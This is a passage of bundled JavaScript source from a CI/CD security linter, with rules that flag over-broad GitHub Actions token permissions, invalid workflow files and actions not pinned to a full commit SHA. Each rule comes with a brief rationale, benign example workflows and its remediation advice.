        statuses: { levels: both, risk: 'medium', allows: 'set commit statuses, and turn a required one green' },
        'vulnerability-alerts': { levels: ['read'], risk: 'medium', allows: 'read Dependabot alerts' },
    },
};
const byName = new Map(Object.entries(permissionKeys.keys));
function permissionKeyOf(scope) {
    return byName.get(scope);
}

;// CONCATENATED MODULE: ./build/src/rules/workflow/excessive-permissions.js




/* harmony default export */ const excessive_permissions = (defineRule({
    meta: {
        id: 'workflow/excessive-permissions',
        title: 'Tokens that can write are given to single jobs, scope by scope',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'warn', strict: 'deny' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'warn' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI5:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-05' },
            { framework: 'NIST-800-207', id: 'T3' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-5' },
            { framework: 'SSDF', id: 'PO.5.1' },
        ],
        rationale: 'What stands at the top of a workflow is given to all of its jobs, also to those that install dependencies, build and test: whoever gets code into one of them holds the token of the release. In May 2026 code in a build step read the identity token of a publishing job out of memory and published 84 versions of TanStack packages, although the publish step never ran (CVE-2026-45321).',
        remediation: 'Write `permissions: {}` (or `contents: read`) at the top of the workflow, and under `jobs.<id>.permissions` only the scopes that this job needs, each with its level.',
        messages: {
            'write-all': '`permissions: write-all` lets {whose} write to everything in the repository. List the scopes that are needed, each with its level',
            inherited: '{scopes} at the top of the workflow {verb} given to {count} jobs ({jobs}): with {worst} a step can {allows}. Give a write scope only to the job that needs it',
        },
        examples: [
            {
                title: 'A write scope for the test job too, and a token that may do anything',
                files: {
                    '.github/workflows/release.yml': 'on: push\npermissions:\n  contents: read\n  id-token: write\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make test\n  release:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make release\n  label:\n    runs-on: ubuntu-24.04\n    permissions: write-all\n    steps:\n      - run: make label\n',
                },
                expect: [
                    { message: 'inherited', path: '.github/workflows/release.yml', line: 4 },
                    { message: 'write-all', path: '.github/workflows/release.yml', line: 16 },
                ],
            },
            {
                title: 'The only job of a workflow, and a job with its own block',
                files: {
                    '.github/workflows/one.yml': 'on: push\npermissions:\n  contents: write\njobs:\n  release:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make release\n',
                    '.github/workflows/two.yml': 'on: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make test\n  release:\n    runs-on: ubuntu-24.04\n    permissions:\n      contents: write\n    steps:\n      - run: make release\n',
                },
                expect: [],
            },
        ],
        options: {},
        key: ['job', 'scopes'],
    },
    needs: ['workflows'],
    evaluate({ workflows }) {
        return workflows.items.flatMap((workflow) => [...excessive_permissions_ofWorkflow(workflow), ...workflow.jobs.flatMap((job) => excessive_permissions_ofJob(workflow, job))]);
    },
}));
function excessive_permissions_ofJob({ file }, { id, permissions }) {
    if (permissions.kind !== 'all' || permissions.level !== 'write')
        return [];
    return [writeAll((0,locate/* locate */.x5)(file, permissions.span), id.value, `job \`${id.value}\``)];
}
function excessive_permissions_ofWorkflow(workflow) {
    const { file, permissions } = workflow;
    const heirs = workflow.jobs.filter((job) => job.permissions.kind === 'unset');
    if (heirs.length === 0)
        return [];
    switch (permissions.kind) {
        case 'unset':
            return [];
        case 'all':
            return permissions.level === 'write' ? [writeAll((0,locate/* locate */.x5)(file, permissions.span), '', jobsText(heirs))] : [];
        case 'scopes':
            return heirs.length < 2 ? [] : inherited(workflow, heirs, writesOf(permissions.scopes));
    }
}
function inherited({ file }, heirs, writes) {
    const [worst, ...others] = writes;
    if (worst === undefined)
        return [];
    const names = writes.map((entry) => `\`${entry.scope}: write\``);
    return [
        {
            kind: 'violation',
            message: 'inherited',
            data: {
                job: '',
                scopes: names.toSorted(core_location/* compareText */.n6).join(', '),
                verb: writes.length === 1 ? 'is' : 'are',
                count: String(heirs.length),
                jobs: excessive_permissions_listed(heirs),
                worst: `\`${worst.scope}: write\``,
                allows: permissionKeyOf(worst.scope)?.allows ?? 'do what GitHub may let this scope do',
            },
            location: (0,locate/* locate */.x5)(file, worst.span),
            related: others.map((entry) => ({ location: (0,locate/* locate */.x5)(file, entry.span), message: 'Given to all of them too.' })),
            severity: riskOf(worst),
            confidence: 'medium',
        },
    ];
}
function writeAll(location, job, whose) {
    return { kind: 'violation', message: 'write-all', data: { job, scopes: 'write-all', whose }, location, severity: 'high' };
}
function writesOf(scopes) {
    const writes = scopes.filter((entry) => entry.level === 'write');
    return [...writes.filter((entry) => riskOf(entry) === 'high'), ...writes.filter((entry) => riskOf(entry) !== 'high')];
}
function riskOf({ scope }) {
    return permissionKeyOf(scope)?.risk ?? 'medium';
}
function jobsText(jobs) {
    return jobs.length === 1 ? `job ${excessive_permissions_listed(jobs)}` : `${jobs.length} jobs (${excessive_permissions_listed(jobs)})`;
}
function excessive_permissions_listed(jobs) {
    const names = jobs.slice(0, 5).map((job) => `\`${job.id.value}\``);
    return jobs.length > names.length ? `${names.join(', ')}, ...` : names.join(', ');
}

;// CONCATENATED MODULE: ./build/src/rules/workflow/invalid.js




const maxPerFile = 20;
/* harmony default export */ const invalid = (defineRule({
    meta: {
        id: 'workflow/invalid',
        title: 'Pipeline files are what GitHub would run',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'warn', strict: 'deny' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'warn' },
        controls: [
            { framework: 'NIST-CSF', id: 'PR.PS-01' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-7' },
            { framework: 'SSDF', id: 'PO.3' },
        ],
        rationale: 'A file that GitHub refuses never runs, and a check that it carried is silently gone. A file that two readers understand differently hides from one of them what the other executes. What cannot be read here is unknown for every rule that would have judged it, never a pass.',
        remediation: 'Put the named place right; the message says what GitHub accepts there.',
        messages: {
            yaml: 'Not YAML as GitHub reads it: {problem}',
            schema: 'GitHub refuses this: {problem}',
            expression: '{problem}. GitHub refuses the whole file',
            more: '{count} more problems in this file are not listed. Put the first ones right, and look again',
        },
        examples: [
            {
                title: 'A job that neither has steps nor calls a workflow',
                files: { '.github/workflows/ci.yml': 'on: push\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    step:\n      - run: make\n' },
                expect: [
                    { message: 'schema', path: '.github/workflows/ci.yml', line: 3 },
                    { message: 'schema', path: '.github/workflows/ci.yml', line: 5 },
                ],
            },
            {
                title: 'A workflow that GitHub runs',
                files: { '.github/workflows/ci.yml': 'on: push\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n' },
                expect: [],
            },
        ],
        options: {},
        key: ['item'],
    },
    needs: ['pipeline', 'problems'],
    evaluate({ pipeline, problems }) {
        if (pipeline.texts.size === 0 && problems.length === 0)
            return (0,finding/* notApplicable */.hH)('there is no pipeline file here');
        const byPath = new Map();
        for (const problem of problems.filter(isDefect))
            byPath.set(problem.path, [...(byPath.get(problem.path) ?? []), problem]);
        return [...[...byPath.values()].flatMap(ofFile), ...problems.flatMap(ofReading)];
    },
}));
function isDefect(problem) {
    return problem.code === 'yaml' || problem.code === 'schema' || problem.code === 'expression';
}
function ofFile(defects) {
    const shown = defects.slice(0, maxPerFile).map(violationOf);
    const first = defects[maxPerFile];
    if (first === undefined)
        return shown;
    const count = String(defects.length - maxPerFile);
    const data = { item: first.path, problem: '', count };
    return [...shown, { kind: 'violation', message: 'more', data, location: invalid_locationOf(first) }];
}
function violationOf(defect) {
    const problem = defect.code === 'expression' ? sentence(defect.message) : defect.message;
    const data = { item: defect.item, problem };
    return { kind: 'violation', message: defect.code, data, location: invalid_locationOf(defect) };
}
function sentence(text) {
    return text.slice(0, 1).toUpperCase() + text.slice(1);
}
function ofReading(problem) {
    if (isDefect(problem))
        return [];
    const cause = problem.code === 'yaml-limit' ? 'limit' : 'invalid';
    return [(0,facts/* gap */.rQ)({ item: problem.item, cause, why: problem.message, location: invalid_locationOf(problem) })];
}
function invalid_locationOf({ path, file, span }) {
    const start = { line: 1, column: 1 };
    return file === undefined ? { path, start, end: start } : (0,locate/* locate */.x5)(file, span);
}

;// CONCATENATED MODULE: ./build/src/rules/support/lock-claim.js
const version = 'v0.0.2';
class LockClaims {
    #locks;
    constructor(locks, problems) {
        const broken = new Set(problems.map(({ path }) => path));
        this.#locks = locks.filter((lock) => lock.version?.value === version && !broken.has(lock.file.path)).map(read);
    }
    covers(target, file) {
        const repository = `${target.owner}/${target.name}`;
        const keys = [keyOf(`${repository}@${target.ref}`), keyOf(`${repository}/${target.path}@${target.ref}`)];
        const path = file.root === '' ? file.path : file.path.slice(file.root.length + 1);
        const isWorkflow = path.startsWith('.github/workflows/');
        const isIn = (refs) => keys.some((key) => refs?.has(key) === true);
        return this.#locks.some(({ root, workflows, pinned }) => root === file.root && isIn(pinned) && (!isWorkflow || isIn(workflows.get(path))));
    }
}
function read({ file, workflows, dependencies }) {
    return {
        root: file.root,
        workflows: new Map(workflows.map(({ path, refs }) => [path.value, new Set(refs.map((ref) => keyOf(ref.value)))])),
        pinned: new Set(dependencies.filter(({ commit }) => isCommit(commit?.value)).map(({ ref }) => keyOf(ref.value))),
    };
}
function isCommit(commit) {
    return commit !== undefined && /^(?:sha1-[0-9a-f]{40}|sha256-[0-9a-f]{64})$/.test(commit);
}
function keyOf(ref) {
    const at = ref.indexOf('@');
    return at < 0 ? ref : ref.slice(0, at).toLowerCase() + ref.slice(at);
}

;// CONCATENATED MODULE: ./build/src/rules/support/pin-level.js

function refKindOf(ref) {
    if (/^(?:[0-9a-f]{40}|[0-9a-f]{64})$/i.test(ref))
        return 'sha';
    if (ref.startsWith('refs/tags/'))
        return 'tag';
    if (ref.startsWith('refs/heads/') || !/[0-9]/.test(ref))
        return 'branch';
    return /^(?=.*[a-f])[0-9a-f]{7,63}$/i.test(ref) ? 'short-sha' : 'tag';
}
const calledByTag = ['slsa-framework/slsa-github-generator/.github/workflows/'];
function pinLevelFor(pins, repository, path) {
    const names = [repository, ...(path === '' ? [] : [`${repository}/${path}`])].map((name) => name.toLowerCase());
    const byTag = calledByTag.find((start) => names.some((name) => name.startsWith(start)));
    let best = byTag === undefined ? { pattern: '', level: 'sha' } : { pattern: byTag, level: 'tag' };
    for (const [pattern, level] of Object.entries(pins)) {
        const isMatch = pattern === '*' || (pattern.length <= glob/* patternLimit */.An && names.some((name) => (0,glob/* matchesGlob */.kt)(pattern.toLowerCase(), name)));
        if (isMatch && pattern.length > best.pattern.length)
            best = { pattern, level };
    }
    return best.level;
}
function satisfies(kind, level) {
    if (level === 'any' || kind === 'sha')
        return true;
    return level === 'tag' && kind === 'tag';
}

;// CONCATENATED MODULE: ./build/src/rules/support/uses-in.js

function usesIn(workflows, actions) {
    return [...workflows.flatMap(usesOfWorkflow), ...actions.flatMap(usesOfAction)];
}
function usesOfWorkflow(workflow) {
    const { file } = workflow;
    const calls = workflow.jobs.flatMap((job) => (job.kind === 'call' ? [{ file, uses: job.uses, isCall: true }] : []));
    const steps = [...(0,walk/* stepsOf */.B_)(workflow)].flatMap(({ step }) => (step.kind === 'uses' ? [{ file, uses: step.uses, isCall: false }] : []));
    return [...calls, ...steps].toSorted((a, b) => a.uses.scalar.span.start - b.uses.scalar.span.start);
}
function usesOfAction(action) {
    const { file } = action;
    return (0,walk/* stepsOfAction */.VL)(action).flatMap((step) => (step.kind === 'uses' ? [{ file, uses: step.uses, isCall: false }] : []));
}

;// CONCATENATED MODULE: ./build/src/rules/workflow/unpinned-action.js






const unpinned_action_maxRelated = 50;
const platformOwners = new Set(['actions', 'github']);
/* harmony default export */ const unpinned_action = (defineRule({
    meta: {
        id: 'workflow/unpinned-action',
        title: 'Actions and reusable workflows of other repositories are named by a full commit SHA',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'warn', strict: 'deny' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'warn' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI3:2025' },
            { framework: 'NIST-CSF', id: 'PR.PS-05' },
            { framework: 'NIST-CSF', id: 'GV.SC-07' },
            { framework: 'NIST-800-207', id: 'T5' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-3' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-8' },
            { framework: 'SSDF', id: 'PO.3' },
        ],
        rationale: 'A tag or branch of another repository can be moved to other code at any time, and your next run executes it with your token and secrets. In March 2025 nearly all tags of tj-actions/changed-files were moved to a commit that printed the secrets of its users to their logs (CVE-2025-30066); in March 2026 the same happened to aquasecurity/trivy-action (CVE-2026-33634). Workflows with a full SHA were not touched by either. A short SHA is no pin: GitHub resolves names first, and a tag can be called like it. `pinact run` rewrites all workflows at once, for example to `actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2`; Dependabot and Renovate keep SHA and comment up to date. To trust the tags of an owner, set the option `pins`.',
        remediation: 'Write `uses: {action}@<40 hex digits> # {ref}`, with the full SHA of the commit that you reviewed. `git ls-remote https://github.com/{repository} {ref}` shows the one of today.',
        messages: {
            branch: '{what} follows a branch: whoever can push to `{repository}` changes what runs here. Name a full commit SHA',
            tag: '{what} is named by a tag, and whoever can write to `{repository}` can move it to other code. Name a full commit SHA',
            'short-sha': '{what} is named by {digits} hex digits, which is no pin: a tag or branch of that name comes first. Name all 40 digits',
        },
        examples: [
            {
                title: 'A branch and a tag',
                files: {
                    '.github/workflows/ci.yml': 'on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n      - uses: acme/scan@main\n      - run: make\n      - uses: acme/scan/report@main\n',
                },
                expect: [
                    { message: 'tag', path: '.github/workflows/ci.yml', line: 7 },
                    { message: 'branch', path: '.github/workflows/ci.yml', line: 8 },
                    { message: 'branch', path: '.github/workflows/ci.yml', line: 10 },
                ],
            },
            {
                title: 'A full SHA with its version, the repository itself, and a called workflow at a SHA',
                files: {
                    '.github/workflows/ci.yml': 'on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - uses: ./.github/actions/build\n  call:\n    uses: acme/build/.github/workflows/build.yml@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v2\n',
                },
                expect: [],
            },
            {
                title: 'Tags of the own organisation are trusted by the policy',
                files: {
                    '.github/workflows/ci.yml': 'on: push\njobs:\n  call:\n    uses: acme/build/.github/workflows/build.yml@v2\n',
                },
                options: { pins: { '*': 'sha', 'acme/*': 'tag' } },
                expect: [],
            },
        ],
        options: {
            pins: {
                type: 'levels',
                levels: ['sha', 'tag', 'any'],
                default: { '*': 'sha' },
                description: 'What is demanded of which repository: a pattern such as `acme/*` or `acme/tool` and `sha`, `tag` (a ref with a digit in it) or `any`. The longest pattern that fits counts. The builders of slsa-github-generator, which refuse to run unless they are named by a version tag, need no entry.',
            },
        },
        key: ['uses'],
    },
    needs: ['workflows', 'actions', 'locks', 'problems'],
    evaluate({ workflows, actions, locks, problems }, options) {
        const all = usesIn(workflows.items, actions.items);
        const groups = groupsOf(all).filter(({ target, kind }) => !satisfies(kind, pinLevelFor(options.pins, `${target.owner}/${target.name}`, target.path)));
        const claims = new LockClaims(locks.items, problems);
        return [...groups.map((group) => unpinned_action_judge(group, claims)), ...all.flatMap(unreadable)];
    },
}));
function groupsOf(all) {
    const groups = new Map();
    for (const place of all) {
        const { target } = place.uses;
        if (target.kind !== 'repository')
            continue;
        const kind = refKindOf(target.ref);
        if (kind === 'sha')
            continue;
        const key = JSON.stringify([place.file.path, unpinned_action_nameOf(target).toLowerCase(), target.ref]);
        const group = groups.get(key);
        if (group === undefined)
            groups.set(key, { first: place, target, kind, others: [] });
        else
            group.others.push(place);
    }
    return [...groups.values()];
}
function unpinned_action_judge(group, claims) {
    return claims.covers(group.target, group.first.file) ? unverified(group) : unpinned_action_violationOf(group);
}
function unpinned_action_violationOf({ target, kind, first, others }) {
    const uses = `${unpinned_action_nameOf(target)}@${target.ref}`;
    const data = {
        uses,
        what: others.length === 0 ? `\`${uses}\`` : `\`${uses}\` (${others.length + 1} times in this file)`,
        action: unpinned_action_nameOf(target),
        repository: `${target.owner}/${target.name}`,
        ref: target.ref,
        digits: String(target.ref.length),
    };
    return {
        kind: 'violation',
        message: kind,
        data,
        location: unpinned_action_locationOf(first),
        related: others.slice(0, unpinned_action_maxRelated).map((place) => ({ location: unpinned_action_locationOf(place), message: 'Used here too.' })),
        severity: severityOf(kind, target.owner),
    };
}
function severityOf(kind, owner) {
    const isPlatform = platformOwners.has(owner.toLowerCase());
    if (kind === 'branch')
        return isPlatform ? 'medium' : 'high';
    return isPlatform ? 'low' : 'medium';
}
function unverified({ target, first }) {
    return (0,facts/* gap */.rQ)({
        item: `${unpinned_action_nameOf(target)}@${target.ref}`,
        cause: 'unresolvable',
        why: 'only actions.lock names its commit, and nobody checked here that the lock holds',
        remedy: 'Name the full SHA in the workflow as well.',
        location: unpinned_action_locationOf(first),
    });
}
function unreadable(place) {
    const { target, scalar } = place.uses;
    if (target.kind !== 'unreadable')
        return [];
    const shown = scalar.value.replace(/\/\/[^/]*@/, '//***@').slice(0, 100);
    return [(0,facts/* gap */.rQ)({ item: `uses: ${shown}`, cause: 'invalid', why: target.why, location: unpinned_action_locationOf(place) })];
}
function unpinned_action_nameOf(target) {
    return target.path === '' ? `${target.owner}/${target.name}` : `${target.owner}/${target.name}/${target.path}`;
}
function unpinned_action_locationOf({ file, uses }) {
    return (0,locate/* locate */.x5)(file, uses.scalar.alias ?? uses.scalar.span);
}

;// CONCATENATED MODULE: ./build/src/rules/registry.gen.js













const rules = [
    exception_expired,
    gate_ineffective,
    loosened,
    no_rules,
    bulk_exposure,
    inherit,
    publish_token,
    static_credential,
    unscoped,
    default_permissions,
    excessive_permissions,
    invalid,
    unpinned_action,
];


/***/ })

};
